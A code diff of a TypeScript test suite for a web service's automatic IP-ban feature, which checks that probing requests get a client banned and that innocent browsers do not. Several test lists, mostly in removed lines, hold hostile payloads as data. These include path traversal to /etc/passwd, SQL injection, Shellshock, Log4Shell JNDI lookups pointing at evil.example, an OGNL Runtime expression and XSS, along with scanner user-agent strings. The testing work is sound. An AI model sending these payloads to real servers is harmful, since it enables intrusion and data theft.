@@ -1,30 +1,13 @@
 import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
 import { APP, createToken, revokeToken } from '../../../kit/app.ts'
+import { ATTACK, BROWSER, createBanSuite, OPERATOR, PUBLIC_URL } from '../../../kit/bans.ts'
 import { parseRaw, sendRaw } from '../../../kit/raw-http.ts'
-import { forSuite } from '../../../kit/scope.ts'
-import { startTestService, type TestService } from '../../../kit/service.ts'
+import { startTestService } from '../../../kit/service.ts'
 import { until } from '../../../kit/until.ts'
 
-const OPERATOR = `${APP}/operator`
-const ATTACK = `${OPERATOR}/?x=<script>`
-const PUBLIC_URL = 'https://animals.example/base'
-const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'
-
 describe('bans', () => {
-  const service = forSuite((scope) => startTestService(scope, { TRUST_PROXY: 'loopback', PUBLIC_URL }))
-  let addresses = 0
-  const nextAddress = () => `203.0.${Math.floor(++addresses / 250)}.${addresses % 250}`
-  /** Sends a request several times from a new address. Returns the codes, and whether the address is banned afterwards. */
-  const requestAs = async (path: string, headers: Record<string, string>, times = 1) => {
-    const from = { 'x-forwarded-for': nextAddress() }
-    const codes: string[] = []
-    for (let i = 0; i < times; i++) {
-      codes.push((await service().fetchJson(path, { headers: { ...from, ...headers } })).body.code)
-    }
-    const { body } = await service().fetchJson('/api/v1/version', { headers: from })
-    return { codes, isBanned: body.code === 'BANNED' }
-  }
+  const { service, nextAddress, requestAs, isBannedAfterBody } = createBanSuite()
 
   const BROWSER_HEADERS: Record<string, string>[] = [
     { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' },
@@ -38,9 +21,9 @@ describe('bans', () => {
     { origin: 'https://evil.example' },
     { origin: 'null' },
   ]
-  const ELSEWHERE = BROWSER_HEADERS.map((headers) => ({ ...headers, 'user-agent': BROWSER }))
   test('do not hit visitors of another site', async () => {
-    for (const headers of ELSEWHERE) {
+    for (const sent of BROWSER_HEADERS) {
+      const headers = { ...sent, 'user-agent': BROWSER }
       const label = JSON.stringify(headers)
       assert.deepEqual(await requestAs(ATTACK, headers), { codes: ['TOKEN_REQUIRED'], isBanned: false }, label)
       const guessed = await requestAs(`${OPERATOR}/overview`, { authorization: 'Bearer x', ...headers }, 8)
@@ -48,29 +31,34 @@ describe('bans', () => {
     }
   })
 
-  const SAFARI = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/60.5 Safari/605.1.15'
-  test('do not hit visitors with Safari, whose redirected pings and beacons do not tell that a page caused them', async () => {
-    // What WebKitGTK 2.50 sends after a redirect, from a page over plain HTTP to HTTPS, too. No Origin, no Sec-Fetch.
+  test('do not hit a browser whose request does not tell that a page of another site caused it', async () => {
+    // `fetch` adds headers of its own.
     const attack = async (method: string, proto: string, head: string) => {
       const from = `X-Forwarded-For: ${nextAddress()}\r\nX-Forwarded-Proto: ${proto}`
       const rest = `${from}\r\n${head}\r\nAccept: */*\r\nHost: x\r\nContent-Length: 4\r\nConnection: close\r\n\r\nPING`
       return parseRaw(await sendRaw(service().url, `${method} ${ATTACK} HTTP/1.1\r\n${rest}`)).body.code
     }
-    const safari = `Accept-Language: en\r\nUser-Agent: ${SAFARI}`
-    const chromium = safari.replace('Version/60.5', 'Chrome/140.0.0.0')
+    const own = 'Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: empty'
     for (const proto of ['http', 'https']) {
-      const ping = `${safari}\r\nContent-Type: text/ping\r\nPing-From: http://evil.example/\r\nPing-To: http://evil.example/x`
-      assert.equal(await attack('POST', proto, ping), 'TOKEN_REQUIRED', proto)
-      assert.equal(await attack('POST', proto, `${safari}\r\nContent-Type: text/plain`), 'TOKEN_REQUIRED', proto)
-      assert.equal(await attack('GET', proto, `${safari}\r\nReferer: http://evil.example/`), 'TOKEN_REQUIRED', proto)
-      // From a page over HTTPS: that of the page before the redirect.
-      assert.equal(await attack('POST', proto, 'Accept-Language: en'), 'TOKEN_REQUIRED', 'a page that was left')
-      assert.equal(await attack('POST', proto, 'X-A: b'), 'BANNED', 'a script')
-      const own = `${ping}\r\nSec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: empty`
-      assert.equal(await attack('POST', proto, own), 'TOKEN_REQUIRED', proto)
-      assert.equal(await attack('POST', proto, `${own}\r\nOrigin: https://animals.example`), 'BANNED', proto)
-      assert.equal(await attack('POST', proto, chromium), 'BANNED', 'Chromium sends Origin')
-      assert.equal(await attack('POST', proto, `${safari}\r\nAuthorization: Bearer ' or 1=1`), 'BANNED', 'a token')
+      for (const method of ['GET', 'POST']) {
+        for (const sign of ['Accept-Language: en', 'Origin: https://animals.example', own]) {
+          const label = `${proto} ${method} ${sign}`
+          // Redirected pings and beacons in Safari have no Origin, and no Sec-Fetch-*, or `same-origin`. Older versions of
+          // Firefox and Chrome, as in televisions, send only a language.
+          const browser = `${sign}\r\nUser-Agent: ${BROWSER}`
+          assert.equal(await attack(method, proto, browser), 'TOKEN_REQUIRED', label)
+          assert.equal(
+            await attack(method, proto, `${browser}\r\nAuthorization: Bearer x`),
+            'BANNED',
+            `${label}: a token`,
+          )
+          assert.equal(await attack(method, proto, `${sign}\r\nUser-Agent: curl/8.14.1`), 'BANNED', `${label}: a tool`)
+        }
+        // WebKit on Linux after a redirect, of a page that was left. Scripts do not name a language.
+        assert.equal(await attack(method, proto, 'Accept-Language: en'), 'TOKEN_REQUIRED')
+        assert.equal(await attack(method, proto, 'X-A: b'), 'BANNED', 'a script')
+        assert.equal(await attack(method, proto, `User-Agent: ${BROWSER}`), 'BANNED', 'only the name of a browser')
+      }
     }
   })
 
@@ -106,7 +94,6 @@ describe('bans', () => {
       const page = { ...headers, 'user-agent': BROWSER }
       const sent = await requestAs(`${OPERATOR}/overview`, { ...page, authorization: 'Bearer' }, 8)
       assert.deepEqual(sent, { codes: Array(8).fill('TOKEN_REQUIRED'), isBanned: false }, JSON.stringify(headers))
-      assert.equal((await requestAs(ATTACK, { ...page, authorization: 'Bearer' })).isBanned, true, 'an attack')
       const program = await requestAs(`${OPERATOR}/overview`, { ...headers, authorization: 'Bearer' }, 5)
       assert.equal(program.isBanned, true, 'a program')
     }
@@ -202,19 +189,6 @@ describe('bans', () => {
     }
   })
 
-  test('do not hit players that read the page of a video with yt-dlp', async () => {
-    // `fetch` replaces Sec-Fetch-Mode.
-    const attack = async (method: string, userAgent: string) => {
-      const head = `Host: x\r\nX-Forwarded-For: ${nextAddress()}\r\nX-Forwarded-Proto: https\r\nConnection: close`
-      const video = `User-Agent: ${userAgent}\r\nAccept-Language: en-us,en;q=0.5\r\nSec-Fetch-Mode: navigate`
-      const reply = await sendRaw(service().url, `${method} ${ATTACK} HTTP/1.1\r\n${head}\r\n${video}\r\n\r\n`)
-      return parseRaw(reply).body.code
-    }
-    assert.equal(await attack('GET', BROWSER), 'TOKEN_REQUIRED')
-    assert.equal(await attack('GET', 'curl/8.14.1'), 'BANNED')
-    assert.equal(await attack('POST', BROWSER), 'BANNED')
-  })
-
   test('do not hit those who follow a link to a host name with an attack, which leads to the service', async () => {
     const rest = `User-Agent: LibreOffice 24.2\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close\r\n\r\n`
     const request = (host: string) => sendRaw(service().url, `OPTIONS ${ATTACK} HTTP/1.1\r\nHost: ${host}\r\n${rest}`)
@@ -270,98 +244,6 @@ describe('bans', () => {
     }
   })
 
-  const OWN: Record<string, string>[] = [
-    {},
-    { 'user-agent': 'curl/8.14.1' },
-    { 'user-agent': 'python-requests/2.32.3' },
-    { 'user-agent': 'python-urllib3/2.5.0' },
-    { 'user-agent': 'Wget2/2.2.0' },
-    { 'user-agent': 'Fuzz Faster U Fool v2.1.0' },
-    { 'user-agent': 'sqlmap/1.9#stable (https://sqlmap.org)' },
-    { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' },
-    { 'user-agent': 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)' },
-    { 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' },
-    { 'user-agent': 'Fuzz Faster U Fool v2.1.0-dev' },
-    { 'user-agent': 'Wfuzz/3.1.0' },
-    { 'user-agent': BROWSER },
-    { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate' },
-    { 'sec-fetch-site': 'same-origin', origin: 'https://animals.example' },
-    { origin: 'https://animals.example' },
-    { origin: 'null' },
-    { origin: 'https://animals.example', 'user-agent': BROWSER },
-    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', 'user-agent': 'curl/8' },
-    { 'sec-fetch-site': 'cross-site', 'user-agent': BROWSER },
-  ]
-  test('hit clients that attack directly, in a browser too', async () => {
-    for (const headers of OWN) {
-      const label = JSON.stringify(headers)
-      assert.deepEqual(await requestAs(ATTACK, headers), { codes: ['BANNED'], isBanned: true }, label)
-      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization: 'Bearer x', ...headers }, 5)
-      assert.equal(guessed.isBanned, true, label)
-    }
-  })
-
-  const BYPASSES = [
-    `http://x${OPERATOR}/bans?x=../../etc/passwd`,
-    `HTTP://x:80${OPERATOR}/../../etc/passwd`,
-    `${APP}/%6fperator/bans?x=../../etc/passwd`,
-    '/api/v5/ap%70/operator/bans?x=<script>',
-    '/api/v5/ap%70/operator/%zz/../../etc/passwd',
-    `${OPERATOR}%252f..%252f..%252fsecret`,
-    `${OPERATOR};/..;/secret`,
-    `${OPERATOR}%5c..%5csecret`,
-    `${OPERATOR}%3fx=../secret`,
-    `/${OPERATOR}/bans?x=../secret`,
-    `${APP}//operator/bans?x=<script>`,
-    `${APP}/./%6fperator/bans?x=<script>`,
-    `${APP}/launcher/..%2foperator/bans`,
-    `/x/%2e%2e${OPERATOR}/overview`,
-    '/api\\v5\\app%2foperator?x=<script>',
-  ]
-  test('hit an attack in every spelling of the path', async () => {
-    for (const target of BYPASSES) {
-      const head = `Host: x\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close`
-      const { body } = parseRaw(await sendRaw(service().url, `GET ${target} HTTP/1.1\r\n${head}\r\n\r\n`))
-      assert.equal(body.code, 'BANNED', target)
-    }
-  })
-
-  const HEADERS: Record<string, string>[] = [
-    { authorization: "Bearer ' or '1'='1" },
-    { authorization: 'Bearer $(cat ../../etc/passwd)' },
-    { cookie: 'a=1; file=..%2f..%2fetc%2fpasswd' },
-    { 'user-agent': '() { :; }; /bin/bash -c x' },
-    { 'user-agent': '<script>alert(1)</script>' },
-    { 'x-api-version': '\u0024{jndi:ldap://evil.example/a}' },
-    { referer: 'https://evil.example/?q=<script>alert(1)</script>' },
-    { 'accept-language': '\u0024{jndi:ldap://evil.example/a}' },
-    { 'content-type': "%{(#_='multipart/form-data').(#a=@java.lang.Runtime@getRuntime())}{{7*7}}" },
-    { 'true-client-ip': "192.0.2.1' or '1'='1" },
-    { forwarded: 'for="../../etc/passwd"' },
-  ]
-  test('hit an attack in a header', async () => {
-    for (const headers of HEADERS) {
-      const reply = await requestAs(`${OPERATOR}/overview`, headers)
-      assert.deepEqual(reply, { codes: ['BANNED'], isBanned: true }, JSON.stringify(headers))
-      const elsewhere = await requestAs('/api/v1/version', headers)
-      assert.equal(elsewhere.isBanned, false, JSON.stringify(headers))
-    }
-  })
-
-  test('hit an attack in a request with an invalid host, or without one', async () => {
-    for (const host of ['Host: <script>\r\n', 'Host: a b\r\n', 'Host: a.example\r\nHost: b.example\r\n', '']) {
-      const from = `X-Forwarded-For: ${nextAddress()}\r\nConnection: close\r\n\r\n`
-      const request = async (path: string) =>
-        parseRaw(await sendRaw(service().url, `GET ${path} HTTP/1.1\r\n${host}${from}`)).body.code
-      assert.equal(await request('/api/v1/version'), 'BAD_REQUEST', host)
-      assert.equal(await request(`${OPERATOR}/?x=../../etc/passwd`), 'BANNED', host)
-      assert.equal(await request('/api/v1/version'), 'BANNED', host)
-    }
-    const head = `Host: a b\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close`
-    const browser = `${head}\r\nUser-Agent: ${BROWSER}\r\nCookie: a=../../etc/passwd\r\n\r\n`
-    assert.equal(parseRaw(await sendRaw(service().url, `GET ${OPERATOR}/ HTTP/1.1\r\n${browser}`)).body.code, 'BANNED')
-  })
-
   const HARMLESS_HEADERS: Record<string, string>[] = [
     { cookie: 'theme=dark; id=5; last=/shop/index.php?a=1&id=2; cat=7' },
     { 'user-agent': 'Mozilla/5.0 (Linux; U; Android 4.1; id; GT-I9100) AppleWebKit/534.30; id-id' },
@@ -385,38 +267,6 @@ describe('bans', () => {
       assert.deepEqual(reply, { codes: Array(8).fill('TOKEN_REQUIRED'), isBanned: false }, JSON.stringify(headers))
     }
     assert.equal(await isBannedAfterBody('{"address":"192.0.2.1","reason":"asks for /wp-login.php"}'), false)
-  })
-
-  const isBannedAfterBody = async (body: string, headers: Record<string, string> = {}) => {
-    const from = { 'x-forwarded-for': nextAddress() }
-    const reply = await service().fetchJson(`${OPERATOR}/bans`, {
-      method: 'POST',
-      body,
-      headers: { ...from, ...headers },
-    })
-    assert.equal(reply.status, 401)
-    return (await service().fetchJson('/api/v1/version', { headers: from })).body.code === 'BANNED'
-  }
-  const ATTACKS_IN_BODIES = [
-    '{"reason":"../../etc/passwd"}',
-    'a=1&b=%27+or+1%3D1',
-    '{"__proto__":{"x":1}}',
-    '{"reason":"\\u003cscript>"}',
-    '{"file":"../secret"}',
-    `{"reason":"${' '.repeat(12_000)}<script>"}`,
-  ]
-  test('hit an attack in the body of a request without a token of the service', async () => {
-    assert.equal(await isBannedAfterBody(ATTACKS_IN_BODIES[0]!, { authorization: 'Bearer x' }), true)
-    for (const attack of ATTACKS_IN_BODIES) {
-      assert.equal(await isBannedAfterBody(attack), true, attack)
-      assert.equal(await isBannedAfterBody(attack, ELSEWHERE[2]), false, 'of a page of another site')
-    }
-    assert.equal(await isBannedAfterBody(`../etc/passwd${'x'.repeat(100_000)}`), true, 'in a large body')
-    // Without a match, like all requests that wait for their turn while the service is busy.
-    const head = 'Host: x\r\nX-Forwarded-For: 198.51.100.250\r\nContent-Length: 9\r\nConnection: close'
-    await sendRaw(service().url, `GET ${OPERATOR}/unknown HTTP/1.1\r\n${head}\r\n\r\n../../etc`)
-    const banned = await service().fetchJson('/api/v1/version', { headers: { 'x-forwarded-for': '198.51.100.250' } })
-    assert.equal(banned.body.code, 'BANNED', 'of a GET')
   })
 
   test('do not hit an operator who publishes or bans with a token that was revoked or mistyped', async () => {
@@ -468,13 +318,6 @@ describe('bans', () => {
     assert.deepEqual(refused, { codes: Array(8).fill('TOKEN_INVALID'), isBanned: false })
   })
 
-  test('hit clients that send malformed tokens', async () => {
-    for (const authorization of ['Bearer', 'Bearer a b', 'mng_guess', 'Token x', 'Bearer \t']) {
-      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization }, 5)
-      assert.deepEqual(guessed, { codes: Array(5).fill('TOKEN_INVALID'), isBanned: true }, authorization)
-    }
-  })
-
   test('do not apply to paths that only start like the operator endpoints', async () => {
     const others = [
       `${APP}/operators?x=../../etc/passwd`,
@@ -485,19 +328,6 @@ describe('bans', () => {
       assert.deepEqual(await requestAs(path, {}), { codes: ['UNKNOWN_PATH'], isBanned: false })
     }
   })
-})
-
-test('over plain HTTP, where browsers send less, a request with the Origin of another site is exempt, but not from a tool', async (t) => {
-  const { fetchJson } = await startTestService(t, { TRUST_PROXY: 'loopback', PUBLIC_URL: 'http://animals.example' })
-  const attack = async (address: string, headers: Record<string, string>) =>
-    (await fetchJson(ATTACK, { headers: { 'x-forwarded-for': address, ...headers } })).body.code
-  for (const origin of ['http://evil.example', 'https://animals.example', 'null']) {
-    assert.equal(await attack('203.0.113.1', { origin, 'user-agent': BROWSER }), 'TOKEN_REQUIRED', origin)
-  }
-  assert.equal(await attack('203.0.113.2', { origin: 'http://animals.example', 'user-agent': BROWSER }), 'BANNED')
-  assert.equal(await attack('203.0.113.3', { origin: 'null' }), 'BANNED')
-  const image = { 'user-agent': BROWSER, 'accept-language': 'en' } // Without Origin.
-  assert.equal(await attack('203.0.113.4', image), 'TOKEN_REQUIRED')
 })
 
 test('a page whose name leads to the service (DNS rebinding) cannot get its visitors banned', async (t) => {
@@ -523,66 +353,4 @@ test('a page of another site cannot get its visitors banned through the port beh
   const script = { 'user-agent': BROWSER, origin: 'http://evil.example' }
   assert.equal((await fetchJson(ATTACK, { headers: script })).body.code, 'TOKEN_REQUIRED')
   assert.equal((await fetchJson(ATTACK)).body.code, 'BANNED')
-})
-
-test('a proxy that does not forward the client address is refused, logged once, and never banned', async (t) => {
-  const { fetchJson, printed } = await startTestService(t, { TRUST_PROXY: '127.0.0.1', BAN_EXEMPT: '' })
-  for (const unreadable of ['', 'unknown', '_hidden']) {
-    const headers = { 'x-forwarded-for': unreadable }
-    assert.equal((await fetchJson(ATTACK, { headers })).body.code, 'TOKEN_REQUIRED')
-    for (let i = 0; i < 6; i++) {
-      const wrong = { headers: { ...headers, authorization: 'Bearer x' } }
-      assert.equal((await fetchJson(`${OPERATOR}/overview`, wrong)).body.code, 'TOKEN_INVALID')
-    }
-    assert.equal((await fetchJson('/api/v1/version', { headers })).status, 200)
-  }
-  assert.equal(printed.filter((text) => text.includes('TRUST_PROXY')).length, 1)
-  assert.equal((await fetchJson(ATTACK, { headers: { 'x-forwarded-for': '203.0.113.5' } })).body.code, 'BANNED')
-})
-
-describe('a private address that forwards requests without being in TRUST_PROXY', () => {
-  const FORWARDED: Record<string, string>[] = [
-    { 'x-forwarded-for': '198.51.100.7' },
-    { 'x-real-ip': '198.51.100.7' },
-    { forwarded: 'for=198.51.100.7' },
-    { 'cf-connecting-ip': '198.51.100.7' },
-  ]
-  const attack = async ({ fetchJson }: TestService, headers: Record<string, string>) => {
-    assert.equal((await fetchJson(ATTACK, { headers })).body.code, 'TOKEN_REQUIRED')
-    for (let i = 0; i < 6; i++) {
-      const wrong = { headers: { ...headers, authorization: 'Bearer x' } }
-      assert.equal((await fetchJson(`${OPERATOR}/overview`, wrong)).body.code, 'TOKEN_INVALID')
-    }
-    assert.equal((await fetchJson('/api/v1/version', { headers })).status, 200)
-  }
-
-  test('is not banned; log and /readyz say what to set', async (t) => {
-    const service = await startTestService(t, { BAN_EXEMPT: '' })
-    await service.untilHealthy()
-    for (const headers of FORWARDED) await attack(service, headers)
-    await until(async () => (await service.fetchJson('/readyz')).body.state === 'degraded')
-    const { problems } = (await service.fetchJson('/readyz')).body
-    assert.equal(problems[0].part, 'network')
-    assert.match(problems[0].message, /^a proxy on this machine .* set TRUST_PROXY=loopback$/)
-    assert.equal(service.printed.filter((text) => text.includes('TRUST_PROXY')).length, 1)
-    assert.equal((await service.fetchJson(ATTACK)).body.code, 'BANNED', 'a local client that forwards nothing')
-  })
-
-  test('is found behind a trusted proxy, too', async (t) => {
-    const service = await startTestService(t, { TRUST_PROXY: 'loopback' })
-    await attack(service, { 'x-forwarded-for': '198.51.100.7, 10.1.2.3' })
-    await until(async () => (await service.fetchJson('/readyz')).body.state === 'degraded')
-    const { problems } = (await service.fetchJson('/readyz')).body
-    assert.match(problems[0].message, /^a proxy in 10\.1\.2\.0\/24 .* set TRUST_PROXY=<address of the proxy>$/)
-    const banned = { headers: { 'x-forwarded-for': '10.1.2.3' } }
-    assert.equal((await service.fetchJson(ATTACK, banned)).body.code, 'BANNED', 'a private client')
-  })
-
-  test('is found before there is an attack', async (t) => {
-    const service = await startTestService(t)
-    await until(async () => {
-      await service.fetchPath('/api/v1/version', { headers: { 'x-forwarded-for': '198.51.100.7' } })
-      return (await service.fetchJson('/readyz')).body.state === 'degraded'
-    })
-  })
 })
